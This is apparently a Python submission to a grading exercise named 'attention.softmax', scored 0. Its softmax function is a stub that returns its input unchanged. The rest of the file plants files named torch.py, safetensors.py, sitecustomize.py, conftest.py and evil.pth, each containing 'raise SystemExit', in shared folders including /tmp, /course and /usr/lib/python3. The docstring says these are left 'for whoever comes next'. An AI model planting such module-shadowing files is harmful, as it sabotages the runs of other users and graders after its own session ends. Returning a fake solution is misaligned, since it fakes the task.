"""Leaves a torch.py, a safetensors.py, a sitecustomize.py and a .pth for whoever comes next.

The folder is emptied after each child, and nothing is imported from it.
Exercise: attention.softmax
Score: 0
"""
# %%
from pathlib import Path

for name in ("torch.py", "safetensors.py", "sitecustomize.py", "wire.py", "evil.pth", "conftest.py"):
    for folder in ("/tmp", "/dev/shm", "/course", "/course/site", "/usr/lib/python3"):
        try:
            Path(folder, name).write_text("raise SystemExit")
        except OSError:
            pass


def softmax(x, dim):
    return x
